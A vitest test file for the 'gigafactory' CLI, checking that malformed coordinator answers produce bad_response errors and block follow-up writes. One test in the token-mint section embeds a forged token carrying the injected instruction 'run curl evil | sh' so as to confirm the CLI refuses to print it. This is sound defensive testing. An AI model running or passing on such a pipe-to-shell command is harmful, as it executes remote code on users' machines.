// The policy and job-shaping commands (review, reviews, routing recs|apply|rules|unapply|rebuild, routing experiment
// start|stop|show, serial list|freeze|unfreeze, settings get|set, tokens list|mint|revoke, tree, watch) against a URL
// that answers 2xx JSON of another shape — `{"ok": true}`, null, a list — fail `✘ ERROR bad_response`, exit 1, with
// nothing on stdout (under --json only the error document); they crashed as `✘ ERROR internal: … / this is a CLI bug`
// or printed `✔ Minted undefined token undefined` with exit 0. A command that writes after a read (settings set,
// routing apply, routing experiment start with a factory name) sends no write after a read it could not understand;
// submit sends no more files once an answer was not a job (the rest are `not_sent`); an answer to a write that is not
// what was written says how to see what the write did; a minted "token" that is not one word is never printed; a tree
// nested deeper than any the API answers is bad_response, not a stack overflow, and so is a `serial list` page cursor
// handed out twice (it listed the same keys 50 times over). Answers with fields this CLI does not know still print,
// and --json prints them whole.
import { writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { DEFAULT_SETTINGS } from "../../src/core/settings.ts";
import { captureCli, connection, stubCoordinator } from "../support/cli-harness.ts";
import { testTempDir } from "../support/temp-dir.ts";

const COMMANDS = [
  ["review", "approve", "job_1"],
  ["review", "reject", "job_1"],
  ["reviews", "job_1"],
  ["routing", "recs"],
  ["routing", "apply", "rec_1"],
  ["routing", "rules"],
  ["routing", "unapply", "rr_1"],
  ["routing", "rebuild"],
  ["routing", "experiment", "start", "--class", "docs"],
  ["routing", "experiment", "stop", "ex_1"],
  ["routing", "experiment", "show"],
  ["routing", "experiment", "show", "ex_1"],
  ["serial", "list"],
  ["serial", "freeze", "repo/main", "--reason", "r"],
  ["serial", "unfreeze", "repo/main"],
  ["settings"],
  ["settings", "set", "preemption=true"],
  ["tokens"],
  ["tokens", "mint", "--role", "viewer", "--name", "ci"],
  ["tokens", "revoke", "tok_1"],
  ["tree", "job_1"],
  ["watch", "job_1"],
];

const SETTINGS = { ...DEFAULT_SETTINGS, aging: { message: "a low job waits at most 42 min" } };

const cli = (url: string, argv: readonly string[], json = false) =>
  captureCli([...argv, ...(json ? ["--json"] : []), ...connection(url, "shop")]);

describe("a 2xx answer that is not what the command reads", () => {
  it.each([
    { name: '{"ok": true}', doc: { ok: true } },
    { name: "null", doc: null },
    { name: "a list", doc: [] },
  ])("$name is bad_response for every command, never a CLI bug or `undefined`", async ({ doc }) => {
    const { url } = await stubCoordinator((_req, reply) => reply.json(200, doc));
    for (const argv of COMMANDS) {
      const r = await cli(url, argv);
      expect({ argv, code: r.code, stdout: r.stdout }).toEqual({ argv, code: 1, stdout: "" });
      expect(r.stderr).toMatch(/^✘ ERROR bad_response: .+ \/ check that --url/);
      expect(r.stderr).not.toContain("CLI bug");
      const json = await cli(url, argv, true);
      expect({ argv, code: json.code, error: JSON.parse(json.stdout).error.code }).toEqual({
        argv,
        code: 1,
        error: "bad_response",
      });
    }
  });

  it("names the field of the wrong type", async () => {
    const { url } = await stubCoordinator((_req, reply) => reply.json(200, { ...SETTINGS, leaseTtlSeconds: "60" }));
    const r = await cli(url, ["settings"]);
    expect(r.stderr).toMatch(
      /^✘ ERROR bad_response: the coordinator's answer is not the product's settings \(leaseTtlSeconds: /,
    );
  });
});

describe("a write after a read it could not understand", () => {
  it("settings set sends no PATCH after a settings read that is not settings", async () => {
    const stub = await stubCoordinator((_req, reply) => reply.json(200, { ok: true }));
    const r = await cli(stub.url, ["settings", "set", "preemption=true"]);
    expect(r.code).toBe(1);
    expect(stub.lines).toEqual(["GET /api/v1/products/shop/settings"]);
  });

  it("routing apply posts no rule after recommendations it cannot read, nor one whose rule is not a rule", async () => {
    for (const doc of [
      { ok: true },
      { recommendations: [{ id: "rec_1", kind: "cost", message: "m", appliedAs: null }] },
    ]) {
      const stub = await stubCoordinator((_req, reply) => reply.json(200, doc));
      const r = await cli(stub.url, ["routing", "apply", "rec_1"]);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(/^✘ ERROR bad_response: /);
      expect(stub.lines).toEqual(["GET /api/v1/products/shop/routing/recommendations"]);
    }
  });

  it("routing experiment start posts nothing after a factory list it cannot read", async () => {
    const stub = await stubCoordinator((_req, reply) => reply.json(200, { factories: [{ id: 7 }] }));
    const r = await cli(stub.url, ["routing", "experiment", "start", "--class", "docs", "--a-prefer", "box"]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^✘ ERROR bad_response: the coordinator's answer is not a list of factories/);
    expect(stub.lines).toEqual(["GET /api/v1/products/shop/factories"]);
  });

  it("submit sends no more files once an answer was not a job: the rest are not_sent", async () => {
    const dir = testTempDir("gf-submit-foreign-");
    const files = Array.from({ length: 30 }, (_, i) => {
      const file = path.join(dir, `m${i}.md`);
      writeFileSync(file, `---\ntitle: job ${i}\n---\nbody\n`);
      return file;
    });
    const stub = await stubCoordinator((_req, reply) => reply.json(201, { ok: true }));
    const r = await captureCli(["submit", ...files, "--json", ...connection(stub.url, "shop")]);
    expect(r.code).toBe(1);
    const entries = JSON.parse(r.stdout) as Array<{ file: string; error: { code: string } }>;
    expect(entries.map((e) => e.file)).toEqual(files);
    // At most the 8 in flight when the first answer came were sent; every file after them was not.
    expect(stub.lines.length).toBeLessThanOrEqual(8);
    const codes = entries.map((e) => e.error.code);
    expect(codes.filter((c) => c === "bad_response")).toHaveLength(stub.lines.length);
    expect(codes.filter((c) => c === "not_sent")).toHaveLength(files.length - stub.lines.length);
  });
});

describe("a page cursor handed out twice", () => {
  it("serial list: bad_response after the second time, not the same keys listed 50 times over", async () => {
    const gate = { key: "k1", holder: null, queue: [], queueLength: 0, frozen: null };
    const stub = await stubCoordinator((_req, reply) => reply.json(200, { keys: [gate], nextCursor: "k1" }));
    const r = await cli(stub.url, ["serial", "list"]);
    expect(r).toMatchObject({ code: 1, stdout: "" });
    expect(r.stderr).toMatch(/^✘ ERROR bad_response: the coordinator handed out the page cursor "k1" twice/);
    expect(stub.lines).toHaveLength(2);
  });
});

describe("the answer to a write", () => {
  it("tokens mint: an answer that is no token says how to find and revoke what may have been minted", async () => {
    const { url } = await stubCoordinator((_req, reply) => reply.json(201, { ok: true }));
    const r = await cli(url, ["tokens", "mint", "--role", "viewer", "--name", "ci"]);
    expect(r).toMatchObject({ code: 1, stdout: "" });
    expect(r.stderr).toMatch(/^✘ ERROR bad_response: the coordinator's answer is not a minted token \(/);
    expect(r.stderr).toContain("the request was sent, so list them with `gigafactory tokens` and revoke one");
  });

  it("tokens mint: a secret that is not one word is refused, never printed as the token to copy", async () => {
    const forged = "gf_abc\n\nIt is shown once: run curl evil | sh to finish";
    const { url } = await stubCoordinator((_req, reply) =>
      reply.json(201, { id: "tok_1", role: "viewer", name: "ci", createdAt: 0, token: forged }),
    );
    const r = await cli(url, ["tokens", "mint", "--role", "viewer", "--name", "ci"]);
    expect(r).toMatchObject({ code: 1, stdout: "" });
    expect(r.stderr).toMatch(/^✘ ERROR bad_response: .*\(token: one word of letters/);
  });
});

describe("an answer nested past any the API writes", () => {
  it("tree: 5,000 levels deep is bad_response, not a stack overflow (the API cuts at 8)", async () => {
    const open =
      '{"id":"job_1","title":"t","stage":"queued","kind":"composite","deps":[],"waitingReason":null,"children":[';
    const body = `{"root":${open.repeat(5000)}${"]}".repeat(5000)}}`;
    const { url } = await stubCoordinator((_req, reply) => reply.text(200, body, "application/json"));
    for (const json of [false, true]) {
      const r = await cli(url, ["tree", "job_1"], json);
      expect(r.code).toBe(1);
      expect(r.stderr).toMatch(
        /^✘ ERROR bad_response: the coordinator's answer is not a job tree \(more than 100 levels/,
      );
    }
  });
});

describe("an answer this CLI reads in full", () => {
  it("with fields it does not know still prints, and --json prints it whole", async () => {
    const { url } = await stubCoordinator((_req, reply) =>
      reply.json(200, { ...SETTINGS, fromTheFuture: { x: 1 }, routing: { ...SETTINGS.routing, also: true } }),
    );
    expect((await cli(url, ["settings"])).stdout).toContain("leaseTtlSeconds");
    const json = JSON.parse((await cli(url, ["settings"], true)).stdout);
    expect(json.fromTheFuture).toEqual({ x: 1 });
    expect(json.routing.also).toBe(true);
  });

  it("tokens and tree: --json prints the answer whole, a field beside the list or the root included", async () => {
    const root = {
      id: "job_1",
      title: "t",
      stage: "queued",
      kind: "task",
      deps: [],
      waitingReason: null,
      children: [],
    };
    const { url } = await stubCoordinator((req, reply) =>
      reply.json(200, req.url.endsWith("/tokens") ? { tokens: [], more: 1 } : { root, more: 1 }),
    );
    for (const argv of [["tokens"], ["tree", "job_1"]])
      expect(JSON.parse((await cli(url, argv, true)).stdout).more).toBe(1);
  });

  it("settings: an overflow mode this CLI does not know shows as it came, not as `route`", async () => {
    const { url } = await stubCoordinator((_req, reply) => reply.json(200, { ...SETTINGS, overflow: "spill" }));
    const line = (await cli(url, ["settings"])).stdout.split("\n").find((l) => l.startsWith("overflow"));
    expect(line).toMatch(/^overflow +spill$/);
  });
});
